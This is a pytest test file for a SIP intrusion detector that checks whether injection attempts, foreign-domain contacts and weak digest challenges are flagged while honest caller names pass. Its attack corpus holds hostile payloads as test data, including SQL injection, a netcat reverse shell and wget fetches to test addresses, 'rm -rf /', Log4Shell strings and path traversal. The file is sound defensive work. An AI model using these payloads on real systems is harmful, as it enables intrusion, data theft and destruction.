"""Detectors of single messages: injection, foreign domains, weak digests; and the honest."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sdnblock.block import TCP, Action, parse_prefix
from sdnblock.detect.engine import Engine
from sdnblock.detect.foreign_domain import ForeignDomainSettings
from sdnblock.detect.registry import DetectSettings
from sdnblock.detect.sides import Sides
from sdnblock.evidence.grade import Grade
from tests.sip_world import World

ATTACKER = "203.0.113.7"
CALLER = "Call-ID: a\r\nCSeq: 1"


def invite(uri: str = "sip:100@example.net", sender: str = "<sip:a@example.net>",
           contact: str = "<sip:a@192.0.2.1>", agent: str = "Phone/1.0", more: str = "",
           method: str = "INVITE", call: str = "a") -> str:  # fmt: skip
    return (
        f"{method} {uri} SIP/2.0\r\nFrom: {sender};tag=f\r\nTo: <sip:b@example.net>\r\n"
        f"Call-ID: {call}\r\nCSeq: 1 {method}\r\nContact: {contact}\r\nUser-Agent: {agent}\r\n"
        f"{more}\r\n"
    )


def told(text: str, detector: str, world: World | None = None) -> list[str]:
    """Reasons of the detector's verdicts on one request."""
    world = world or World()
    world.send(ATTACKER, 5060, text)
    assert all(each.grade is Grade.SPOOFABLE for each in world.verdicts)
    return [each.reason for each in world.verdicts if each.detector == detector]


@pytest.mark.parametrize(
    ("text", "what"),
    [
        (invite(sender="\"x' or '1'='1\" <sip:a@example.net>"), "SQL in From"),
        (invite(sender="<sip:a'%20OR%201=1--@example.net>"), "SQL in From"),
        (invite(sender="<sip:a');drop%20table%20subscriber;@example.net>"), "SQL in From"),
        (invite(uri="sip:1'union+select+password@example.net"), "SQL in the Request-URI"),
        (invite(agent="x'; -- "), "SQL in User-Agent"),
        (invite(agent="a;wget http://192.0.2.9/x.sh"), "a shell command in User-Agent"),
        (invite(agent="${jndi:ldap://192.0.2.9/a}"), "a shell command in User-Agent"),
        (invite(sender="<sip:$(id)@example.net>"), "a shell command in From"),
        (invite(sender="<sip:`nc%20192.0.2.9%201`@example.net>"), "a shell command in From"),
        (invite(agent="%s%s%s%n"), "a format string in User-Agent"),
        (invite(sender='"<script>alert(1)</script>" <sip:a@example.net>'), "a script in From"),
        (invite(uri="sip:../../../etc/passwd@example.net"), "a path that climbs"),
        (invite(agent="phone\x01"), "control characters in User-Agent"),
        (invite(uri=f"sip:{'9' * 300}@example.net"), "a user of 300 characters"),
        (invite(agent="A" * 600), "600 characters or more in User-Agent"),
        (
            invite(more='Authorization: Digest username="a\' or 1=1 --", nonce="x"\r\n'),
            "SQL in the username",
        ),
    ],
)  # fmt: skip
def test_what_no_phone_sends(text: str, what: str) -> None:
    (reason,) = told(text, "injection")
    assert what in reason


@pytest.mark.parametrize(
    "text",
    [
        invite(sender='"Sinéad O\'Brien" <sip:obrien@example.net>'),
        invite(sender='"Cote D\'Or 21" <sip:21@example.net>'),
        invite(sender='"Rock \'n\' Roll; Inc." <sip:rock@example.net>'),
        invite(sender='"100% natural & <fine>" <sip:shop@example.net>'),
        invite(sender='"Select Union Bank" <sip:1@example.net>'),
        invite(sender='"Müller, \\"Hans\\"" <sip:hans@example.net>'),
        invite(sender='"Иван -- дом" <sip:%D0%B8%D0%B2@example.net>'),
        invite(sender='"anonymous" <sip:anonymous@anonymous.invalid>'),
        invite(uri="sip:*98@example.net"),
        invite(uri="sip:%2321%23@example.net"),
        invite(uri="sip:#21#@example.net;user=phone"),
        invite(uri="sip:+492211234;phone-context=+49@example.net"),
        invite(uri="sip:${EXTEN}@example.net"),
        invite(agent="Asterisk PBX 18.10.0~dfsg+~cs6.10.40431411-2"),
        invite(agent="Cisco/SPA504G-7.6.2f (a; b) [en] | id=7"),
        invite(contact="<sip:a@192.0.2.1:5060;transport=ws;ob>;+sip.instance=\"<urn:uuid:"
                       "00000000-0000-1000-8000-000A95A0E128>\";reg-id=1;expires=600"),
    ],
)  # fmt: skip
def test_what_phones_do_send(text: str) -> None:
    world = World()
    world.send(ATTACKER, 5060, text)
    assert world.verdicts == [] and world.reports == []


@given(st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=40))
def test_no_name_without_marks_convicts(name: str) -> None:
    harmless = "".join(c for c in name if c not in "'\"`;|&$(<%./\\)\r\n")
    assert told(invite(sender=f'"{harmless}" <sip:a@example.net>'), "injection") == []


def ours(**settings: object) -> World:
    given = ForeignDomainSettings(**settings)  # type: ignore[arg-type]
    sides = Sides([parse_prefix("198.51.100.0/24")])
    return World(Engine(DetectSettings.with_(given), sides))


def test_a_contact_that_is_ours() -> None:
    name = "foreign-domain"
    (reason,) = told(invite(contact="<sip:gw@198.51.100.20:5090>", method="REGISTER"), name)
    assert "Contact points to '198.51.100.20', which is ours" in reason
    inside = invite(contact="<sip:gw@trunk.core.example.net>", method="REGISTER")
    assert told(inside, name) == []
    assert told(inside, name, ours(inside=("core.example.net",)))


@pytest.mark.parametrize(
    "contact",
    ["<sip:a@10.0.0.7:5062>", "<sip:a@[fd00::7]>", "<sip:a@192.0.2.77>", "*",
     "<sip:x7@df7jal23ls0d.invalid;transport=ws>", "<sip:a@phone.local>", "<sip:a@desk>",
     "sip:a@pc.example.net"],
)  # fmt: skip
def test_honest_contacts(contact: str) -> None:
    world = ours(domains=("example.net",), inside=("core.example.net",))
    world.send(ATTACKER, 5060, invite(contact=contact, method="REGISTER", uri="sip:example.net"))
    assert world.verdicts == [] and world.reports == []


def test_a_foreign_contact_is_reported_once() -> None:
    world = ours(domains=("example.net",))
    for call in "ab":
        world.send(ATTACKER, 5060, invite(contact="<sip:a@pbx.customer.example>", call=call))
    assert world.verdicts == []
    (report,) = world.reports
    assert "'pbx.customer.example'" in report.reason


def test_requests_for_foreign_domains() -> None:
    world = ours(domains=("example.net",))
    for call, host in enumerate(("relay.example.com", "192.0.2.200", "relay.example.com")):
        assert world.verdicts == []
        world.send(ATTACKER, 5060, invite(uri=f"sip:1@{host}", call=f"c{call}"))
        world.send(ATTACKER, 5060, invite(uri=f"sip:1@{host}", call=f"c{call}"))  # again
    (verdict,) = world.verdicts
    assert verdict.action is Action.DROP and "3 times" in verdict.reason
    for uri in ("sip:1@example.net", "sip:1@sip.example.net:5060", "sip:1@198.51.100.10"):
        for call in range(4):
            world.send("192.0.2.1", 5060, invite(uri=uri, call=f"{uri}{call}"))
    # Within a dialog the Request-URI is the other side's Contact.
    for call in range(9):
        text = invite(uri="sip:1@10.9.9.9", call=f"d{call}").replace(
            "<sip:b@example.net>", "<sip:b@example.net>;tag=t"
        )
        world.send("192.0.2.1", 5060, text)
    assert len(world.verdicts) == 1
    # Nobody said what is ours: nothing is foreign.
    world = World()
    for call in range(9):
        world.send(ATTACKER, 5060, invite(uri="sip:1@relay.example.com", call=f"c{call}"))
    assert world.verdicts == []


def test_weak_challenges_are_reported_and_nobody_blocked() -> None:
    world = World()
    for value, words in (
        ('Basic realm="r"', "Basic"),
        ('Digest realm="r", nonce="n"', "no qop"),
    ):
        world = World()
        for number in range(3):
            call, _ = world.request("192.0.2.1", "REGISTER", "100")
            world.response("192.0.2.1", 401, call, 1, "REGISTER",
                           headers=f"WWW-Authenticate: {value}\r\n")  # fmt: skip
            world.now += number
        (report,) = world.reports
        assert words in report.reason and report.source == bytes([198, 51, 100, 10])
    world = World()
    call, _ = world.request("192.0.2.1", "REGISTER", "100")
    good = 'WWW-Authenticate: Digest realm="r", nonce="n", qop="auth"\r\n'
    world.response("192.0.2.1", 401, call, 1, "REGISTER", headers=good)
    world.send(ATTACKER, 5060, invite(more="Authorization: Basic YTpi\r\n"))
    (report,) = world.reports
    assert "in clear" in report.reason
    assert world.verdicts == []


def test_over_a_connection_that_stands_it_is_proven() -> None:
    world = World()
    world.send(ATTACKER, 5060, invite(agent="%s%s%s%n"), TCP, established=True)
    (verdict,) = world.verdicts
    assert verdict.grade is Grade.PROVEN and verdict.action is Action.DROP


# --- corpora ---------------------------------------------------------------------------------

ATTACKS = (
    "admin'--", "1001' or '1'='1", "x' OR 1=1#", 'a" or "a"="a', "100') union select 1,2,3 -- ",
    "1 UNION ALL SELECT null,null", "100'; drop table subscriber; --",
    "a';insert into users values(1)", "1' and sleep(5)#", "1001%27%20or%20%271%27=%271",
    "a'; WAITFOR DELAY '0:0:5'--", "x'/**/or/**/1",
    "' union select * from information_schema.tables", "1;exec xp_cmdshell 'dir'",
    "$(wget http://203.0.113.1/x)", "`id`", "a;wget http://x/y", "a|nc -e /bin/sh 203.0.113.1 99",
    "x && rm -rf /", "${jndi:ldap://203.0.113.1/a}", "a;cat /etc/passwd",
    "x;/bin/busybox telnetd", "%24%28curl%20x%29", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<?php system(1) ?>",
    "../../../../etc/passwd", "..%2f..%2fetc", "..\\..\\windows", "%s%s%s%s%s", "%n%n%n",
    "AAAA%08x%08x%08x", "%1$n", "a\x00b", "x\x1b[2J", "1001%00", "a%0d%0aVia: x",
)  # fmt: skip

HONEST = (
    '"O\'Brien, Pat" <sip:1001@example.net>', '"Jörg Müller" <sip:j.mueller@example.net>',
    '"D`Angelo & O`Brien" <sip:5@example.net>', '"Smith \'n\' Sons" <sip:5@example.net>',
    '"Dep. (North) and South" <sip:100@example.net>', '"Room (A) and 5" <sip:9@example.net>',
    '"Suite \'A\' and 5" <sip:9@example.net>', '"Union Select Committee" <sip:9@example.net>',
    '"Select Comfort from Us" <sip:9@example.net>', '"Drop Table Furniture" <sip:9@example.net>',
    '"Delete me from list" <sip:9@example.net>', '"100%natural" <sip:9@example.net>',
    '"A/B -- Test; R&D" <sip:9@example.net>', '"$(50) Store" <sip:9@example.net>',
    '"C:\\\\Home" <sip:9@example.net>', '"Tom \\"The Cat\\" Or 1" <sip:9@example.net>',
    '"or" and <sip:9@example.net>', "<sip:*98@example.net>", "<sip:%2398@example.net>",
    "<sip:#21#@example.net>", "<sip:**610@fritz.box>", "<sip:%20x%20y@example.net>",
    "<sip:+4930123;phone-context=example.net;ext=5@example.net;user=phone>",
    "<sip:+1-212-555-0101;npdi;rn=+12125550000@example.net;user=phone>",
    '"Anonymous" <sip:anonymous@anonymous.invalid>', "<tel:+49-30-123;phone-context=+49>",
    "<sip:1001@192.168.1.2:5060;transport=TLS;ob>;+sip.instance="
    '"<urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6>";reg-id=1;methods="INVITE, ACK"',
    '<sip:user@example.com;gr=urn:uuid:f81d4fae-7dec>;audio;video;text;actor="principal"',
    '"=?utf-8?B?SsO2cmc=?=" <sip:9@example.net>',
    "sip:9@example.net;maddr=10.0.0.1?Subject=a&b=c", "Linksys/SPA941-5.1.8", "Cisco-CP7960G/8.0",
    "snom370/8.4.35 (MAC=000413XXXXXX)", "AVM FRITZ!Box 7590 154.07.57 TAL (Sep 12 2023)",
    "Yealink SIP-T46S 66.85.0.5", "Z 3.15.40006 rv", "Twinkle/1.4.2; sh",
    "Panasonic_KX-UT123NE/01.302 (0080f0)", "MicroSIP/3.21.3 & more",
    "X-Lite release 4.9.8 stamp 84253 <eval>", "Telefon \x1b$B$\x1b(B",
    "Bria 5 release 5.8.3 (OK; or 6)", "Phone's; echo cancel", "sipgate 100%", "a--b",
    "3CXPhone #1",
)  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("place", ["From", "Contact", "User-Agent", "Authorization"])
def test_attacks_in_every_field(text: str, place: str) -> None:
    value = text if place == "User-Agent" else f'"{text}" <sip:100@example.net>'
    if place == "Authorization":
        quoted = text.replace('"', '\\"')
        value = f'Digest username="{quoted}", nonce="n", response="0"'
    raw = (
        "OPTIONS sip:100@example.net SIP/2.0\r\nCall-ID: c\r\nCSeq: 1 OPTIONS\r\n"
        f"Contact: <sip:a@192.0.2.1>\r\n{place}: {value}\r\n\r\n"
    )
    assert told(raw, "injection")


@pytest.mark.parametrize("text", HONEST)
def test_what_people_have(text: str) -> None:
    world = World()
    for _ in range(2):
        raw = invite(sender=text, contact=text, agent=text, call=f"{world.now}")
        assert not told(raw, "injection", world)


def test_a_string_with_its_end() -> None:
    assert not told(invite(agent="Grandstream HT801\0"), "injection")


def test_private_contacts_that_are_like_one_of_ours() -> None:
    ours = [parse_prefix("198.51.100.0/24"), parse_prefix("10.1.0.0/16")]
    world = World(Engine(DetectSettings(), Sides(ours)))
    for number in range(5):
        contact = f"<sip:{number}@10.1.0.{number}:5060>"
        raw = invite(contact=contact, method="REGISTER", call=f"c{number}")
        assert not told(raw, "foreign-domain", world)
